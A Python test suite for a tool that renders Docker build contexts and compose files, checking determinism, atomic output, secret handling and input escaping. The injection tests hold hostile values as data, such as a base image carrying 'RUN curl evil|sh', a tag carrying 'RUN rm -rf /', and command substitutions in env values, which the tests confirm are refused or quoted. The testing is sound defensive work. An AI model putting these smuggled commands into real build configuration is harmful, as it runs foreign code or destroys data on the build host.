"""`render_project`: build contexts, compose file, determinism, atomicity, injection attempts."""

from __future__ import annotations

import dataclasses
import http.server
import json
import os
import queue
import re
import shutil
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from config_fixtures import (
    MULTI_MODEL_PREDICTOR,
    PYTHON_PREDICTOR,
    RENDER_CONFIG,
    SECRET,
    make_render_project,
)
from cortex_build import runtime_files, templating
from cortex_build.cli import main
from cortex_build.config import load_project
from cortex_build.errors import UserError
from cortex_build.render import RenderOptions, render_project
from cortex_build.spec import ApiSpec, ModelRef, ModelsSpec, PredictorSpec, Project


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return load_project(make_render_project(tmp_path / "project"))


def tree(root: Path) -> dict[str, tuple[str, str]]:
    """{relative path: (kind and mode, content or link target)} for a whole folder."""
    found: dict[str, tuple[str, str]] = {}
    for folder, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(folder) / name
            rel = path.relative_to(root).as_posix()
            info = path.lstat()
            if stat.S_ISLNK(info.st_mode):
                found[rel] = ("link", os.readlink(path))
            elif stat.S_ISDIR(info.st_mode):
                found[rel] = (f"dir {oct(info.st_mode & 0o777)}", "")
            else:
                found[rel] = (f"file {oct(info.st_mode & 0o777)}", path.read_bytes().hex())
    return found


def test_each_api_gets_a_complete_build_context(project: Project, tmp_path: Path) -> None:
    result = render_project(project, tmp_path / "out")
    context = tmp_path / "out" / "echo"
    assert result.api("echo").context == context
    assert result.api("echo").image == "echo:latest"
    for name in [
        "Dockerfile",
        "cortex/api.json",
        "cortex/entrypoint.sh",
        "cortex/runtime-requirements.txt",
        "cortex/runtime-requirements.lock",
        "cortex/install-requirements.sh",
        "deps/requirements.txt",
        "deps/dependencies.sh",
        "runtime/cortex_serve/__main__.py",
        "runtime/cortex_internal/lib/log.py",
        "project/predictor.py",
        "project/values.json",
    ]:
        assert (context / name).is_file(), name
    assert not list(context.rglob("__pycache__"))
    assert not (context / "project" / ".env").exists()
    assert not (context / "project" / "cortex.yaml").exists()
    assert os.access(context / "cortex" / "entrypoint.sh", os.X_OK)
    api_json = json.loads((context / "cortex" / "api.json").read_text())
    assert api_json == json.loads(project.api("echo").to_json())


def test_the_runtime_is_copied_unchanged(project: Project, tmp_path: Path) -> None:
    render_project(project, tmp_path / "out")
    copied = tmp_path / "out" / "echo" / "runtime"
    packages = runtime_files.package_dirs()
    assert sorted(packages) == ["cortex_internal", "cortex_serve"]
    for package, folder in packages.items():
        for source in folder.rglob("*.py"):
            if "__pycache__" in source.parts:
                continue
            target = copied / package / source.relative_to(folder)
            assert target.read_bytes() == source.read_bytes()


def test_local_models_get_their_own_layer_and_in_image_paths(
    project: Project, tmp_path: Path
) -> None:
    render_project(project, tmp_path / "out")
    context = tmp_path / "out" / "tf"
    assert (context / "models/_cortex_default/saved_model.pb").read_text() == "not really a model"
    assert (context / "models/_cortex_default/variables/variables.index").is_file()
    # the project keeps a link where the model was, so code opening it by path still works
    assert os.readlink(context / "project" / "saved") == "/mnt/model/_cortex_default"
    assert not (context / "project" / "saved" / "saved_model.pb").exists()
    api_json = json.loads((context / "cortex" / "api.json").read_text())
    expected = project.api("tf")
    models = dataclasses.replace(
        expected.predictor.models,
        paths=(ModelRef("_cortex_default", "/mnt/model/_cortex_default"),),
    )
    expected = dataclasses.replace(
        expected, predictor=dataclasses.replace(expected.predictor, models=models)
    )
    assert api_json == json.loads(expected.to_json())


def test_dockerfile_orders_layers_from_stable_to_volatile(project: Project, tmp_path: Path) -> None:
    render_project(project, tmp_path / "out")
    dockerfile = (tmp_path / "out" / "tf" / "Dockerfile").read_text()
    steps = [
        "python3 -m venv /opt/venv",
        "COPY cortex/runtime-requirements.txt",
        "RUN bash /opt/cortex/build/dependencies.sh",
        "RUN sh /opt/cortex/build/install-requirements.sh",
        "COPY runtime/ /opt/cortex/runtime/",
        "COPY models/ /mnt/model/",
        "COPY cortex/api.json",
        "COPY --chown=10001:10001 project/ /mnt/project/",
        "USER 10001:10001",
        'ENTRYPOINT ["/opt/cortex/entrypoint.sh"]',
    ]
    positions = [dockerfile.index(step) for step in steps]
    assert positions == sorted(positions)
    assert "HEALTHCHECK" in dockerfile
    assert "org.opencontainers.image.title" in dockerfile
    # tensorflow: the gRPC client's packages, not TensorFlow
    requirements = (tmp_path / "out" / "tf" / "cortex" / "runtime-requirements.txt").read_text()
    assert "grpcio" in requirements
    assert "tensorflow" not in requirements.replace("the tensorflow client", "")


def test_base_images(project: Project, tmp_path: Path) -> None:
    result = render_project(project, tmp_path / "out")
    assert result.api("echo").base_image.startswith("nvidia/cuda:")  # gpu: 1
    assert result.api("tf").base_image.startswith("python:3.")
    assert result.api("tf").tf_serving_image.startswith("tensorflow/serving:")
    again = render_project(
        project, tmp_path / "out", RenderOptions(base_image="example.com/base:1")
    )
    for api in again.apis:
        assert api.base_image == "example.com/base:1"
        dockerfile = (api.context / "Dockerfile").read_text()
        assert "\nFROM example.com/base:1\n" in dockerfile


def test_compose_services_ports_aliases_and_sidecar(project: Project, tmp_path: Path) -> None:
    render_project(
        project,
        tmp_path / "out",
        RenderOptions(registry="registry.example.com:5000/team", tag="v1"),
    )
    compose = yaml.safe_load((tmp_path / "out" / "docker-compose.yaml").read_text())
    services = compose["services"]
    assert list(services) == ["echo", "tf", "tf-models", "tf-serving"]
    echo, tf = services["echo"], services["tf"]
    assert echo["image"] == "registry.example.com:5000/team/echo:v1"
    assert echo["build"] == {"context": "./echo"}
    assert echo["networks"]["default"]["aliases"] == ["api-echo"]
    # two initial replicas: two host ports; the next API continues after them
    assert echo["ports"] == ["127.0.0.1:8890-8891:8888"]
    assert tf["ports"] == ["127.0.0.1:8892:8888"]
    assert echo["deploy"]["replicas"] == 2
    # compute.cpu and compute.mem are requests, as in the Kubernetes manifests: reservations
    # under deploy: (where Swarm reads them too), no limit, no service-level cpu_shares
    assert "cpu_shares" not in echo
    assert echo["deploy"]["resources"]["reservations"]["cpus"] == "1.5"
    assert echo["deploy"]["resources"]["reservations"]["memory"] == f"{2**30}b"
    assert "limits" not in echo["deploy"]["resources"]
    assert echo["deploy"]["resources"]["reservations"]["devices"][0]["count"] == 1
    assert echo["env_file"] == ["../project/.env"]
    assert echo["healthcheck"]["test"][0] == "CMD"
    assert tf["environment"] == {"CORTEX_TF_SERVING_ADDRESS": "tf-serving:9000"}
    assert services["tf-serving"]["volumes"] == ["tf-models:/mnt/model:ro"]
    assert services["tf-serving"]["depends_on"] == {
        "tf-models": {"condition": "service_completed_successfully"}
    }
    assert compose["volumes"] == {"tf-models": {}}


def test_manifests_without_a_registry_get_a_warning(project: Project, tmp_path: Path) -> None:
    bare = render_project(project, tmp_path / "out")
    (note,) = bare.notes
    assert note.startswith("warning: k8s/ names the images echo:latest, tf:latest without a ")
    assert "--registry" in note and "\n" not in note
    pushed = render_project(
        project, tmp_path / "out", RenderOptions(registry="registry.example.com/team")
    )
    assert pushed.notes == ()


# What `docker stack deploy` refuses at service level (the Docker CLI's forbidden properties,
# and keys its compose file schema 3.8 does not have), where Compose would take them.
SWARM_REFUSED_SERVICE_KEYS = {
    "cpu_shares", "cpu_quota", "cpuset", "cpus", "mem_limit", "mem_reservation", "memswap_limit",
    "extends", "volume_driver", "volumes_from", "scale", "pull_policy", "profiles",
}  # fmt: skip


def test_a_compose_file_without_gpus_or_tensorflow_is_one_docker_stack_deploy_takes(
    tmp_path: Path,
) -> None:
    config = RENDER_CONFIG.split("\n- name: tf")[0].replace("    gpu: 1\n", "")
    project = load_project(make_render_project(tmp_path / "project", config))
    render_project(project, tmp_path / "out")
    text = (tmp_path / "out" / "docker-compose.yaml").read_text()
    compose = yaml.safe_load(text)
    # Docker 20.10's `docker stack deploy` reads no file without a version
    assert compose["version"] == "3.8"
    assert "# docker stack deploy -c docker-compose.yaml NAME deploys the same services" in text
    (echo,) = compose["services"].values()
    assert not SWARM_REFUSED_SERVICE_KEYS & set(echo), sorted(echo)
    assert echo["deploy"] == {
        "replicas": 2,
        "resources": {"reservations": {"cpus": "1.5", "memory": f"{2**30}b"}},
    }


def test_gpu_and_tensorflow_compose_files_say_swarm_refuses_them(
    project: Project, tmp_path: Path
) -> None:
    render_project(project, tmp_path / "out")
    text = (tmp_path / "out" / "docker-compose.yaml").read_text()
    compose = yaml.safe_load(text)
    assert "version" not in compose  # the Compose Specification's depends_on conditions
    header = " ".join(line[2:] for line in text.splitlines() if line.startswith("# "))
    assert (
        "docker stack deploy (Swarm) refuses this file, which has what only Compose reads: GPU "
        "reservations (compute.gpu), the TF Serving sidecars' depends_on conditions."
    ) in header


@pytest.mark.parametrize("cpu", ["200m", "1", "0.25", "12345m"])
def test_compute_cpu_is_a_reservation_of_cores(tmp_path: Path, cpu: str) -> None:
    config = RENDER_CONFIG.split("\n- name: tf")[0].replace("cpu: 1500m", f"cpu: {cpu}")
    project = load_project(make_render_project(tmp_path / "project", config))
    render_project(project, tmp_path / "out")
    compose = yaml.safe_load((tmp_path / "out" / "docker-compose.yaml").read_text())
    cores = compose["services"]["echo"]["deploy"]["resources"]["reservations"]["cpus"]
    expected = {"200m": "0.2", "1": "1", "0.25": "0.25", "12345m": "12.345"}[cpu]
    assert cores == expected


@pytest.mark.skipif(
    shutil.which("docker-compose") is None, reason="docker-compose not installed (CI installs it)"
)
def test_compose_file_passes_docker_compose_config(tmp_path: Path) -> None:
    # a `$` in a path must reach Compose literally, not as a variable
    project = load_project(make_render_project(tmp_path / "my $HOME project"))
    render_project(project, tmp_path / "out")
    checked = subprocess.run(
        ["docker-compose", "-f", str(tmp_path / "out" / "docker-compose.yaml"), "config"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert checked.returncode == 0, checked.stderr
    # no "The HOME variable is not set": every `$` reached Compose escaped
    assert "WARNING" not in checked.stderr
    resolved = yaml.safe_load(checked.stdout)["services"]
    # Compose read .env through env_file (its values appear only in this resolved view)
    assert resolved["echo"]["environment"] == {"API_TOKEN": SECRET}
    assert "for dir in /mnt/model-store/*/; do" in resolved["tf-models"]["entrypoint"][2]


def test_dotenv_values_never_reach_the_output(project: Project, tmp_path: Path) -> None:
    render_project(project, tmp_path / "out")
    assert_no_secret_in(tmp_path / "out")


def test_dotenv_values_never_reach_the_output_through_links_or_model_folders(
    tmp_path: Path,
) -> None:
    """A project symlink to .env stays a link to where .env would be: dangling in OUT and in the
    image (the values reach containers only as environment). A `.env` inside `models.dir` is a
    hidden file of the model folder, never copied."""
    config = RENDER_CONFIG.replace(
        "    env:\n",
        "    multi_model_reloading:\n      dir: models\n    env:\n",
        1,
    )
    root = make_render_project(
        tmp_path / "project",
        config,
        {
            "predictor.py": MULTI_MODEL_PREDICTOR,
            "models/iris/1/model.bin": "weights",
            "models/.env": f"MODEL_TOKEN={SECRET}\n",
            "models/iris/.env": f"MODEL_TOKEN={SECRET}\n",
        },
    )
    (root / "settings.env").symlink_to(".env")
    (root / "conf").mkdir()
    (root / "conf" / "secrets").symlink_to("../.env")
    render_project(load_project(root), tmp_path / "out")
    assert_no_secret_in(tmp_path / "out")
    project_copy = tmp_path / "out" / "echo" / "project"
    assert os.readlink(project_copy / "settings.env") == ".env"
    assert os.readlink(project_copy / "conf" / "secrets") == "../.env"
    assert not (project_copy / ".env").exists()
    assert (tmp_path / "out" / "echo" / "models" / "iris" / "1" / "model.bin").is_file()
    assert not list((tmp_path / "out" / "echo" / "models").rglob(".env"))


def assert_no_secret_in(out: Path) -> None:
    """No file under OUT holds the secret's bytes, symbolic links followed wherever they lead."""
    checked = 0
    for folder, _, filenames in os.walk(out, followlinks=True):
        for name in filenames:
            path = Path(folder) / name
            if path.is_file():  # follows links; a dangling one leads nowhere
                assert SECRET.encode() not in path.read_bytes(), path
                checked += 1
    assert checked > 10


def test_rendering_is_deterministic(tmp_path: Path) -> None:
    # two copies of one project in different places render to the same bytes
    first = load_project(make_render_project(tmp_path / "a" / "project"))
    second = load_project(make_render_project(tmp_path / "b" / "project"))
    render_project(first, tmp_path / "a" / "out")
    render_project(second, tmp_path / "b" / "out")
    render_project(second, tmp_path / "b" / "out")  # and re-rendering changes nothing
    assert tree(tmp_path / "a" / "out") == tree(tmp_path / "b" / "out")


def test_a_failed_render_leaves_out_as_it_was(project: Project, tmp_path: Path) -> None:
    out = tmp_path / "out"
    render_project(project, out)
    before = tree(out)
    os.symlink("/etc/hostname", project.root / "escape")
    with pytest.raises(UserError, match="escape: is a symlink to"):
        render_project(project, out)
    assert tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "project"]  # no staging left


def test_an_error_late_in_rendering_leaves_out_as_it_was(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    render_project(project, out)
    before = tree(out)

    def broken(*args: object, **kwargs: object) -> dict[str, str]:
        raise RuntimeError("disk full")

    import cortex_build.k8s

    monkeypatch.setattr(cortex_build.k8s, "render_k8s", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        render_project(project, out)
    assert tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "project"]


def test_out_must_be_ours_to_replace(project: Project, tmp_path: Path) -> None:
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine")
    with pytest.raises(UserError, match="not empty and was not rendered by cortex-build"):
        render_project(project, foreign)
    assert (foreign / "notes.txt").read_text() == "mine"
    with pytest.raises(UserError, match="holds the project"):
        render_project(project, project.root)


def test_out_inside_the_project_is_not_copied_into_itself(tmp_path: Path) -> None:
    project = load_project(make_render_project(tmp_path / "project"))
    render_project(project, tmp_path / "project" / "build")
    render_project(project, tmp_path / "project" / "build")
    assert not (tmp_path / "project" / "build" / "echo" / "project" / "build").exists()


def test_earlier_outputs_inside_the_project_are_not_copied(tmp_path: Path) -> None:
    """`render -o outa` then `render -o outb`: outa is output (it holds the render marker), not
    project; a folder of the project that merely looks alike is still copied."""
    root = make_render_project(tmp_path / "project", extra={"nested/outc/keep.txt": "mine"})
    project = load_project(root)
    render_project(project, root / "outa")
    render_project(project, root / "nested" / "outc" / "render")
    render_project(project, root / "outb")
    copied = root / "outb" / "echo" / "project"
    assert (copied / "predictor.py").is_file()
    assert not (copied / "outa").exists()
    assert (copied / "nested" / "outc" / "keep.txt").read_text() == "mine"
    assert not (copied / "nested" / "outc" / "render").exists()
    # and re-rendering outa leaves outb out in turn
    render_project(project, root / "outa")
    assert not (root / "outa" / "echo" / "project" / "outb").exists()


def test_api_selection(project: Project, tmp_path: Path) -> None:
    result = render_project(project, tmp_path / "out", RenderOptions(api_names=("tf",)))
    assert [api.name for api in result.apis] == ["tf"]
    assert not (tmp_path / "out" / "echo").exists()
    with pytest.raises(UserError, match='--api: no API is named "nope"'):
        render_project(project, tmp_path / "out", RenderOptions(api_names=("nope",)))


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("tag", "v1\nRUN rm -rf /", "--tag: must be letters"),
        ("tag", "v1 --privileged", "--tag: must be letters"),
        ("registry", "evil.com/x y", "--registry: must be a registry"),
        ("registry", "a\n  privileged: true", "--registry: must be a registry"),
        ("base_image", "python:3.11\nRUN curl evil|sh", "--base-image: must be an image"),
        ("base_image", "python:3.11 AS x", "--base-image: must be an image"),
        ("autoscaler", "vpa", "--autoscaler"),
    ],
)
def test_injection_through_options_is_refused(
    project: Project, tmp_path: Path, option: str, value: str, message: str
) -> None:
    with pytest.raises(UserError, match=message):
        render_project(project, tmp_path / "out", RenderOptions(**{option: value}))
    assert not (tmp_path / "out").exists()


def test_injection_through_spec_values_is_refused_or_quoted(tmp_path: Path) -> None:
    # Specs built directly: the config reader would already reject these; the renderer must
    # not rely on that.
    root = tmp_path / "project"
    root.mkdir()
    (root / "p.py").write_text(PYTHON_PREDICTOR)
    config = root / 'we"ird $HOME\nRUN id.yaml'
    config.write_text("")

    def api(name: str, **predictor: object) -> ApiSpec:
        return ApiSpec(
            name=name,
            generation="v0.2x",
            endpoint=f"/{name}",
            predictor=PredictorSpec(type="python", interface="class", path="p.py", **predictor),
        )

    bad_name = Project(root, config, (api("x\nRUN id"),))
    with pytest.raises(UserError, match="name: must be a DNS-1035 label"):
        render_project(bad_name, tmp_path / "out")
    bad_image = Project(root, config, (api("ok", image="python:3\nRUN id"),))
    with pytest.raises(UserError, match=r"predictor\.image: must be an image reference"):
        render_project(bad_image, tmp_path / "out")
    assert not (tmp_path / "out").exists()

    env = {"A": "x\n  privileged: true\nRUN id", "B": "'\"$(id)`id`"}
    fine = Project(root, config, (api("ok", env=env, config={"k": "\n}\nRUN id"}),))
    render_project(fine, tmp_path / "out")
    dockerfile = (tmp_path / "out" / "ok" / "Dockerfile").read_text()
    assert "\nRUN id" not in dockerfile  # env and config travel in api.json only
    assert 'of "we\\"ird $HOME\\nRUN id.yaml"; edit' in dockerfile.splitlines()[0]  # a comment
    # the one label holding user text is escaped for Dockerfile syntax
    assert (
        json.loads((tmp_path / "out" / "ok" / "cortex" / "api.json").read_text())["predictor"][
            "env"
        ]
        == env
    )
    compose_text = (tmp_path / "out" / "docker-compose.yaml").read_text()
    assert "\nRUN id" not in compose_text
    compose = yaml.safe_load(compose_text)
    assert list(compose["services"]) == ["ok"]
    assert "privileged" not in compose["services"]["ok"]


def test_dockerfile_string_escapes_and_refuses_line_breaks() -> None:
    quote = templating.dockerfile_string
    assert quote('a "b" $HOME \\x') == '"a \\"b\\" \\$HOME \\\\x"'
    with pytest.raises(ValueError):
        quote("a\nRUN id")


def test_colliding_compose_service_names_are_an_error(tmp_path: Path) -> None:
    config = RENDER_CONFIG + (
        "\n- name: tf-serving\n  kind: RealtimeAPI\n  predictor:\n    type: python\n"
        "    path: predictor.py\n"
    )
    project = load_project(make_render_project(tmp_path / "project", config))
    with pytest.raises(UserError, match='compose service "tf-serving" collides'):
        render_project(project, tmp_path / "out")


def test_models_outside_the_project_and_model_dirs(tmp_path: Path) -> None:
    outside = tmp_path / "models"
    (outside / "a" / "1").mkdir(parents=True)
    (outside / "a" / "1" / "model.onnx").write_text("a")
    (outside / "b.onnx").write_text("b")
    root = tmp_path / "project"
    root.mkdir()
    (root / "p.py").write_text(PYTHON_PREDICTOR)
    (root / "cortex.yaml").write_text("")
    predictor = PredictorSpec(
        type="python",
        interface="class",
        path="p.py",
        models=ModelsSpec(
            paths=(
                ModelRef("a", str(outside / "a")),
                ModelRef("b", str(outside / "b.onnx")),
                ModelRef("c", "s3://bucket/c"),
            )
        ),
    )
    api = ApiSpec(name="multi", generation="v0.2x", endpoint="/multi", predictor=predictor)
    # --models-at-start: the s3 model stays for the runtime (nothing is fetched here)
    render_project(
        Project(root, root / "cortex.yaml", (api,)),
        tmp_path / "out",
        RenderOptions(models_at_start=True),
    )
    context = tmp_path / "out" / "multi"
    assert (context / "models/a/1/model.onnx").read_text() == "a"
    assert (context / "models/b/b.onnx").read_text() == "b"
    refs = json.loads((context / "cortex/api.json").read_text())["predictor"]["models"]["paths"]
    assert [r["path"] for r in refs] == ["/mnt/model/a", "/mnt/model/b/b.onnx", "s3://bucket/c"]

    by_dir = dataclasses.replace(
        api,
        predictor=dataclasses.replace(predictor, models=ModelsSpec(dir=str(outside))),
    )
    render_project(Project(root, root / "cortex.yaml", (by_dir,)), tmp_path / "out")
    assert (context / "models/a/1/model.onnx").is_file()
    assert (
        json.loads((context / "cortex/api.json").read_text())["predictor"]["models"]["dir"]
        == "/mnt/model"
    )


def test_cli_render(tmp_path: Path) -> None:
    make_render_project(tmp_path / "project")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main,
        ["render", str(tmp_path / "project"), "-o", str(out), "--api", "echo", "--tag", "v2"],
    )
    assert result.exit_code == 0, result.output
    assert f"echo: docker build -t echo:v2 {out / 'echo'}" in result.output
    assert (out / "echo" / "Dockerfile").is_file()
    bad = CliRunner().invoke(
        main, ["render", str(tmp_path / "project"), "-o", str(out), "--tag", "a b"]
    )
    assert bad.exit_code == 2
    assert "cortex-build: --tag: must be letters" in bad.output
    assert "Traceback" not in bad.output


def test_pip_output_streams_while_pip_runs_and_its_status_is_kept(
    project: Project, tmp_path: Path
) -> None:
    """install-requirements.sh with the real pip against an index on loopback that holds its
    answer: pip's first line must come out while pip still waits, and pip's failure must be the
    script's exit status (POSIX sh, no pipefail)."""
    render_project(project, tmp_path / "out")
    script = tmp_path / "out" / "echo" / "cortex" / "install-requirements.sh"
    asked, release = threading.Event(), threading.Event()

    class Index(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.set()
            release.wait(30)
            self.send_error(404)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Index)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    index = f"http://127.0.0.1:{server.server_address[1]}/simple/"
    requirements, constraints = tmp_path / "requirements.txt", tmp_path / "constraints.txt"
    requirements.write_text(f"--index-url {index}\ncortex-build-streaming-probe==1.0\n")
    constraints.write_text("six\n")
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
        "PIP_RETRIES": "0",
    }
    process = subprocess.Popen(
        ["sh", str(script), str(requirements), str(constraints)],
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        env=env,
    )
    lines: queue.Queue[str] = queue.Queue()
    assert process.stdout is not None
    reader = threading.Thread(target=lambda: [lines.put(line) for line in process.stdout])
    reader.start()
    try:
        assert asked.wait(60), "pip never asked the index"
        first = lines.get(timeout=20)  # while the index still holds its answer
        assert not release.is_set()
        assert index in first
    finally:
        release.set()
        returncode = process.wait(timeout=60)
        server.shutdown()
        server.server_close()
    reader.join(10)
    rest = "".join(lines.queue)
    assert returncode == 1, rest  # pip's status, not tee's
    assert "No matching distribution found for cortex-build-streaming-probe" in rest


@pytest.mark.parametrize(
    ("out", "message"),
    [
        (
            "/proc/cortex-build-nowhere/out",
            "cannot create /proc/cortex-build-nowhere: No such file",
        ),
        ("/sys/cortex-build-nowhere/out", "cannot create /sys/cortex-build-nowhere: "),  # EPERM
        ("/dev/null/out", "cannot create /dev/null: "),
    ],
)
def test_cli_render_reports_file_system_errors_on_out(
    tmp_path: Path, out: str, message: str
) -> None:
    """Real file-system refusals (even for root): one line naming the path, exit 2, no traceback."""
    make_render_project(tmp_path / "project")
    result = CliRunner().invoke(main, ["render", str(tmp_path / "project"), "-o", out])
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith(f"cortex-build: -o: {message}"), result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["project"]


def test_a_failed_write_reports_out_and_leaves_it_as_it_was(tmp_path: Path) -> None:
    """A write that fails half-way (here: files limited to 256 KiB, a 1 MiB project file, as a
    full disk would) is a problem naming the file as it would be in OUT; OUT stays whole."""
    root = make_render_project(tmp_path / "project")
    out = tmp_path / "out"
    render_project(load_project(root), out)
    before = tree(out)
    (root / "big.bin").write_bytes(b"x" * 2**20)
    limit = 256 * 1024

    def limit_file_size() -> None:
        import resource
        import signal

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG from write(), not a kill
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    completed = subprocess.run(
        [sys.executable, "-m", "cortex_build.cli", "render", str(root), "-o", str(out)],
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=limit_file_size,
    )
    assert completed.returncode == 2, completed.stderr
    assert completed.stderr.splitlines() == [
        f"cortex-build: -o: cannot write {out / 'echo' / 'project' / 'big.bin'}: File too large"
    ]
    assert tree(out) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "project"]  # no staging left


def dockerfile_labels(dockerfile: str) -> dict[str, str]:
    """The LABEL instruction's key="value" pairs, unescaped as Docker's parser does."""
    block = dockerfile[dockerfile.index("\nLABEL ") :]
    pairs = re.findall(r'([\w.-]+)="((?:[^"\\]|\\.)*)"', block)
    return {key: re.sub(r"\\(.)", r"\1", value) for key, value in pairs}


def test_labels_carry_the_normalized_spec_and_the_project(project: Project, tmp_path: Path) -> None:
    render_project(project, tmp_path / "out")
    for api in ("echo", "tf"):
        context = tmp_path / "out" / api
        labels = dockerfile_labels((context / "Dockerfile").read_text())
        # api.json in one line; the env value with quotes, $ and backticks survives the escaping
        assert json.loads(labels["dev.cortex-build.spec"]) == json.loads(
            (context / "cortex" / "api.json").read_text()
        )
        assert "\n" not in labels["dev.cortex-build.spec"]
        assert labels["dev.cortex-build.api"] == api
        assert labels["dev.cortex-build.project"] == "project"
        # no URL of the source is known, so none is made up
        assert "org.opencontainers.image.source" not in labels
    echo = dockerfile_labels((tmp_path / "out" / "echo" / "Dockerfile").read_text())
    spec = json.loads(echo["dev.cortex-build.spec"])
    assert spec["predictor"]["env"]["GREETING"] == 'say "hi" $HOME `id`'
    assert SECRET not in json.dumps(spec)
    # a project folder name with a line break stays on the label's line
    assert templating.printable("a\nb\x7f") == "a\\u000ab\\u007f"


def test_healthcheck_uses_only_what_docker_20_10_and_compose_1_29_accept(
    project: Project, tmp_path: Path
) -> None:
    # --start-interval / start_interval would make "healthy" come sooner, but the classic
    # builder before Engine 25 and docker-compose 1.29 refuse them (docs/render.md)
    render_project(project, tmp_path / "out")
    dockerfile = (tmp_path / "out" / "echo" / "Dockerfile").read_text()
    [healthcheck] = [line for line in dockerfile.splitlines() if line.startswith("HEALTHCHECK ")]
    flags = re.findall(r"--([a-z-]+)=", healthcheck.split(" CMD ")[0])
    assert flags == ["interval", "timeout", "start-period", "retries"]
    compose = yaml.safe_load((tmp_path / "out" / "docker-compose.yaml").read_text())
    for service in ("echo", "tf"):
        assert set(compose["services"][service]["healthcheck"]) == {
            "test", "interval", "timeout", "retries", "start_period",
        }  # fmt: skip
